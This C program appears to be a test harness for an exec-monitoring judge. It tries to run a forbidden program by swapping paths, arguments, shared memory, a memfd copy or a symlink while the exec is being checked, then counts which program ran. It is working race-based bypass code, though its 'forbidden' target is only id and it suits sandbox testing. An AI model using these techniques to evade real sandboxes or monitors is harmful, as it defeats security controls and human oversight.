/*
 * Attacks on a judge of execs: what is about to be run is changed while it is being judged. exec-race HOW TRIES, where HOW is
 *   path   a thread swaps the path between a permitted program (true) and a forbidden one (id)
 *   argv   a thread swaps an argument of echo between a permitted one (A) and a forbidden one (B)
 *   memory as path, by another process that shares the memory
 *   memfd  as path, the forbidden one being a copy of id that is only in memory
 *   link   another process swaps what a symbolic link leads to
 * Prints how often the permitted one ran, the forbidden one ran, and neither.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/sendfile.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static char *shared;
/* 14 bytes, the same length as the permitted one with what follows it. */
static const char *forbidden_path = "/usr/bin/id\0\0";
#define PATH_AT 0
#define WORD_AT 256

static void spin(int turns) {
  for (volatile int i = 0; i < turns; i++) continue;
}

/* Byte by byte, and for all to see. */
static void show(size_t at, const char *text, size_t size) {
  volatile char *to = shared + at;
  for (size_t i = 0; i < size; i++) to[i] = text[i];
}

static void swap_paths(int times) {
  for (int i = 0; i < times; i++) {
    show(PATH_AT, "/usr/bin/true", 14);
    spin(2000);
    show(PATH_AT, forbidden_path, 14);
    spin(2000);
  }
}

/* A thread ends with the exec; whoever outlives it is bounded. */
static void *swap_path(void *unused) {
  (void)unused;
  swap_paths(1 << 30);
  return NULL;
}

static void *swap_word(void *unused) {
  (void)unused;
  for (;;) {
    show(WORD_AT, "A", 1);
    spin(2000);
    show(WORD_AT, "B", 1);
    spin(2000);
  }
  return NULL;
}

static int swap_path_beside(void *unused) {
  (void)unused;
  close(1);
  swap_paths(2000);
  return 0;
}

static void swap_link(void) {
  for (;;) {
    symlink("/usr/bin/true", "fresh");
    rename("fresh", "link");
    symlink("/usr/bin/id", "fresh");
    rename("fresh", "link");
  }
}

/* A copy of id in memory, as descriptor 9. */
static void make_memfd(void) {
  struct stat facts;
  int from = open("/usr/bin/id", O_RDONLY | O_CLOEXEC), to = memfd_create("id", 0);
  if (from < 0 || to < 0 || fstat(from, &facts) != 0) exit(2);
  for (off_t left = facts.st_size; left > 0;) {
    ssize_t n = sendfile(to, from, NULL, (size_t)left);
    if (n <= 0) exit(2);
    left -= n;
  }
  dup2(to, 9);
  close(to);
  close(from);
  forbidden_path = "/dev/fd/9\0\0\0\0";
}

static void try_once(const char *how, int number) {
  pthread_t thread;
  static char stack[65536];
  show(PATH_AT, "/usr/bin/true", 14);
  show(WORD_AT, "A", 2);
  if (strcmp(how, "path") == 0 || strcmp(how, "memfd") == 0) pthread_create(&thread, NULL, swap_path, NULL);
  if (strcmp(how, "argv") == 0) pthread_create(&thread, NULL, swap_word, NULL);
  if (strcmp(how, "memory") == 0) clone(swap_path_beside, stack + sizeof stack, CLONE_VM | SIGCHLD, NULL);
  spin(number % 50 * 400);
  if (strcmp(how, "argv") == 0) execl("/usr/bin/echo", "echo", shared + WORD_AT, NULL);
  else if (strcmp(how, "link") == 0) execl("./link", "x", NULL);
  else execl(shared + PATH_AT, "x", NULL);
  _exit(77);
}

int main(int argc, char **argv) {
  if (argc != 3) return 2;
  const char *how = argv[1];
  int permitted = 0, forbidden = 0, neither = 0;
  pid_t swapper = 0;
  if (strcmp(how, "memfd") == 0) make_memfd();
  shared = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
  if (strcmp(how, "link") == 0 && (swapper = fork()) == 0) swap_link();
  for (int i = 0; i < atoi(argv[2]); i++) {
    int ends[2], status;
    char said[256];
    if (pipe(ends) != 0) return 2;
    pid_t child = fork();
    if (child == 0) {
      dup2(ends[1], 1);
      close(ends[0]);
      close(ends[1]);
      try_once(how, i);
    }
    close(ends[1]);
    ssize_t n = 0, all = 0;
    while (all < 255 && (n = read(ends[0], said + all, (size_t)(255 - all))) > 0) all += n;
    said[all] = 0;
    close(ends[0]);
    waitpid(child, &status, 0);
    int reached = strncmp(said, "uid", 3) == 0 || said[0] == 'B';
    if (reached) forbidden++;
    else if (WIFEXITED(status) && WEXITSTATUS(status) == 0) permitted++;
    else neither++;
  }
  if (swapper > 0) kill(swapper, SIGKILL);
  printf("permitted %d forbidden %d neither %d\n", permitted, forbidden, neither);
  return 0;
}
